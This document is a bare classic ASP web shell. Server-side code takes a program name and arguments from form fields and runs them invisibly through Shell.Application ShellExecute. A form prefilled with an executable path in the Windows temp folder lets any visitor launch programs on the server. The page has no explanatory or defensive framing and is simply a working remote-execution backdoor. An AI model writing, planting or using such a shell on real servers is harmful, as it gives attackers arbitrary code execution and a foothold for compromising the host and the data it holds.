<%
prog = Request.Form("p")
args = Request.Form("a")
If prog <> "" Then
  Set sa = CreateObject("Shell.Application")
  sa.ShellExecute prog, args, "", "open", 0
End If
%>
<form method="post"><input name="p" value="c:\windows\temp\x.exe"><input name="a"><input type="submit"></form>
